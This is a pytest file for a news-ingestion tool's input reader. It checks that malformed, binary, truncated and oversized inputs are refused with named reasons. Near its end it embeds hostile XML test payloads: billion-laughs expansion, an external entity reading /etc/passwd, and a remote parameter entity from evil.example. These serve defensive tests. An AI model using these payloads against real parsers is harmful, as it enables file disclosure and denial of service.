"""Bad inputs are named with a reason, the rest is read, memory stays bounded, XML stays safe."""

from __future__ import annotations

import gzip
import json
import os
import random
import time
import tracemalloc
from pathlib import Path

import pytest
from typer.testing import CliRunner

from conflictwire.cli import app
from conflictwire.inputs import ReadOptions, read_inputs
from conflictwire.records import Document, ReadFailure

from .fixtures.inputs import builders

FIXTURES = Path(__file__).resolve().parent / "fixtures" / "inputs"
FIFTY_MB = 50 * 1024 * 1024


def _split(paths: list[Path]) -> tuple[list[Document], list[ReadFailure]]:
    items = list(read_inputs([str(p) for p in paths], ReadOptions()))
    return (
        [i for i in items if isinstance(i, Document)],
        [i for i in items if isinstance(i, ReadFailure)],
    )


def _split_measured(path: Path) -> tuple[list[Document], list[ReadFailure], int]:
    """``_split`` and the peak of Python allocations while reading."""
    tracemalloc.start()
    try:
        docs, failures = _split([path])
        return docs, failures, tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()


def _write_single_line(path: Path, size: int) -> None:
    """A JSONL line of ``size`` bytes, written in pieces (never held whole here either)."""
    chunk = b"a" * (1 << 20)
    with path.open("wb") as handle:
        handle.write(b'{"id": "huge", "text": "')
        for _ in range(size // len(chunk)):
            handle.write(chunk)
        handle.write(b'"}')


def _truncated_gzip(data: bytes) -> bytes:
    packed = gzip.compress(data, mtime=0)
    return packed[: int(len(packed) * 0.6)]


def _varied_jsonl(n: int) -> bytes:
    rng = random.Random(5)
    words = ["army", "police", "village", "shelling", "convoy", "district", "market", "rebels"]
    rows = []
    for i in range(n):
        text = " ".join(rng.choice(words) for _ in range(60)) + f" {rng.getrandbits(64):x}."
        rows.append(json.dumps({"id": f"row-{i:04d}", "text": text}))
    return ("\n".join(rows) + "\n").encode()


@pytest.fixture()
def mixed_folder(tmp_path: Path) -> Path:
    folder = tmp_path / "inbox"
    folder.mkdir()
    for name in ("wire_dateline.txt", "syndicated_a.txt"):
        (folder / name).write_bytes((FIXTURES / name).read_bytes())
    (folder / "photo.png").write_bytes(b"\x89PNG\r\n\x1a\n" + os.urandom(4096))
    (folder / "dump.bin").write_bytes(os.urandom(4096))
    (folder / "cut.txt.gz").write_bytes(
        _truncated_gzip((FIXTURES / "wire_dateline.txt").read_bytes() * 50)
    )
    (folder / "notes.jsonl").write_text(
        '{"id": "note-1", "text": "Protesters blocked the main road in Goma on Friday."}\n'
        '{"id": "note-2", "text": "unterminated\n'
        '{"id": "note-3", "text": "Gunmen burned a market in Djibo on Sunday."}\n',
        encoding="utf-8",
    )
    _write_single_line(folder / "huge.jsonl", FIFTY_MB)
    (folder / "empty.txt").write_bytes(b"")
    (folder / "latin1.txt").write_bytes("Blast near the café in Gao.".encode("latin-1"))
    return folder


def test_mixed_folder_through_the_cli(mixed_folder: Path, tmp_path: Path) -> None:
    documents = tmp_path / "documents.jsonl"
    result = CliRunner().invoke(
        app,
        ["extract", str(mixed_folder), "--documents", str(documents), "-o", str(tmp_path / "ev")],
    )
    assert result.exit_code == 1, result.output
    stderr = result.stderr
    named = {
        "photo.png": "binary",
        "dump.bin": "binary",
        "cut.txt.gz": "truncated",
        "notes.jsonl:2": "malformed JSON",
        "huge.jsonl:1": "over the size cap",
    }
    for name, reason in named.items():
        lines = [line for line in stderr.splitlines() if f"{name}:" in line or f"{name} " in line]
        assert lines and reason in lines[0], (name, stderr)
    for good in ("empty.txt", "latin1.txt", "wire_dateline.txt", "notes.jsonl:1"):
        assert not any(good in line and "unreadable" not in line for line in _failure_lines(stderr))
    ids = [json.loads(line)["doc_id"] for line in documents.read_text().splitlines()]
    names = sorted(Path(i).name if "/" in i else i for i in ids)
    assert names == sorted(
        ["empty.txt", "latin1.txt", "note-1", "note-3", "syndicated_a.txt", "wire_dateline.txt"]
    )
    assert "5 unreadable" in stderr


def _failure_lines(stderr: str) -> list[str]:
    reasons = ("binary", "truncated", "malformed", "size cap", "cannot read", "no such")
    return [line for line in stderr.splitlines() if any(r in line for r in reasons)]


def test_a_50mb_line_is_refused_in_bounded_memory(tmp_path: Path) -> None:
    path = tmp_path / "huge.jsonl"
    _write_single_line(path, FIFTY_MB)
    with path.open("ab") as handle:
        handle.write(b'\n{"id": "after", "text": "Clashes in Kidal."}\n')
    docs, failures, peak = _split_measured(path)
    assert [f.name for f in failures] == [f"{path}:1"]
    assert [d.doc_id for d in docs] == ["after"]
    assert peak < 0.6 * FIFTY_MB  # bounded by the 20 MB cap, not by the line


def test_an_oversized_text_file_is_refused_without_reading_it(tmp_path: Path) -> None:
    path = tmp_path / "huge.txt"
    _write_single_line(path, FIFTY_MB)
    _, failures, peak = _split_measured(path)
    assert len(failures) == 1 and "size cap" in failures[0].reason
    assert peak < 4_000_000  # a read buffer, not the file


def test_oversized_gzip_is_refused_after_the_cap(tmp_path: Path) -> None:
    path = tmp_path / "bomb.txt.gz"
    path.write_bytes(gzip.compress(b"x" * 3_000_000))
    items = list(read_inputs([str(path)], ReadOptions(max_doc_bytes=1_000_000)))
    assert [type(i) for i in items] == [ReadFailure]
    assert "size cap" in items[0].reason  # type: ignore[union-attr]


def test_truncated_gzip_keeps_what_was_decoded(tmp_path: Path) -> None:
    path = tmp_path / "rows.jsonl.gz"
    path.write_bytes(_truncated_gzip(_varied_jsonl(300)))
    docs, failures = _split([path])
    assert 100 < len(docs) < 300  # about 60% of the rows precede the cut
    assert [d.doc_id for d in docs] == [f"row-{i:04d}" for i in range(len(docs))]
    assert len(failures) == 1 and failures[0].name == str(path)
    assert "truncated" in failures[0].reason


def test_truncated_warc_keeps_the_records_before_the_cut(tmp_path: Path) -> None:
    rng = random.Random(7)
    pages = []
    for i in range(6):
        words = " ".join(rng.choice(["army", "convoy", "shelled", "town"]) for _ in range(300))
        body = f"<html><body><article><p>Report {i}: {words} {rng.getrandbits(64):x}.</p>"
        page = f"{body}</article></body></html>".encode()
        pages.append((f"https://wire.example/{i}", "text/html", page))
    path = tmp_path / "crawl.warc.gz"
    path.write_bytes(_truncated_gzip(builders.warc_bytes(pages)))
    docs, failures = _split([path])
    assert [d.doc_id for d in docs] == [f"https://wire.example/{i}" for i in range(len(docs))]
    assert 2 <= len(docs) < 6
    assert len(failures) == 1 and failures[0].name == str(path)


def test_bad_jsonl_lines_are_named_by_line(tmp_path: Path) -> None:
    path = tmp_path / "docs.jsonl"
    path.write_text(
        '[1, 2]\n{"id": "ok", "text": "Fighting in Sake."}\n{"id": "t", "text": 5}\n\n{oops\n',
        encoding="utf-8",
    )
    docs, failures = _split([path])
    assert [d.doc_id for d in docs] == ["ok"]
    assert [f.name for f in failures] == [f"{path}:1", f"{path}:3", f"{path}:5"]
    assert "JSON object" in failures[0].reason and "'text'" in failures[1].reason


def test_missing_input_is_named(tmp_path: Path) -> None:
    _, failures = _split([tmp_path / "nope.txt"])
    assert failures == [ReadFailure(str(tmp_path / "nope.txt"), "no such file or folder")]


_BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE rss [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<rss version="2.0"><channel><title>t</title>
<item><title>&lol9;</title><link>https://evil.example/1</link><description>&lol9;</description></item>
</channel></rss>"""

_EXTERNAL_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE rss [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>
<rss version="2.0"><channel><title>t</title>
<item><title>x</title><link>https://evil.example/2</link><description>&xxe;</description></item>
</channel></rss>"""

_PARAMETER_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE feed [ <!ENTITY % remote SYSTEM "http://evil.example/x.dtd"> %remote; ]>
<feed xmlns="http://www.w3.org/2005/Atom"><title>t</title></feed>"""


@pytest.mark.parametrize(
    "xml", [_BILLION_LAUGHS, _EXTERNAL_ENTITY, _PARAMETER_ENTITY], ids=["laughs", "xxe", "param"]
)
def test_hostile_xml_is_refused_quickly(tmp_path: Path, xml: str) -> None:
    path = tmp_path / "feed.xml"
    path.write_text(xml, encoding="utf-8")
    started = time.monotonic()
    docs, failures = _split([path])
    assert time.monotonic() - started < 5
    assert docs == []
    assert len(failures) == 1 and failures[0].name == str(path)
    assert "entit" in failures[0].reason


def test_a_public_doctype_alone_is_no_reason_to_refuse(tmp_path: Path) -> None:
    rss = """<?xml version="1.0"?>
<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN"
 "http://my.netscape.com/publish/formats/rss-0.91.dtd">
<rss version="0.91"><channel><title>Old Wire</title><link>https://old.example</link>
<item><title>Clash</title><link>https://old.example/1</link>
<description>Troops clashed with rebels near Bunia.</description></item></channel></rss>"""
    path = tmp_path / "old.rss"
    path.write_text(rss, encoding="utf-8")
    docs, failures = _split([path])
    assert not failures
    assert [(d.doc_id, d.text) for d in docs] == [
        ("https://old.example/1", "Troops clashed with rebels near Bunia.")
    ]
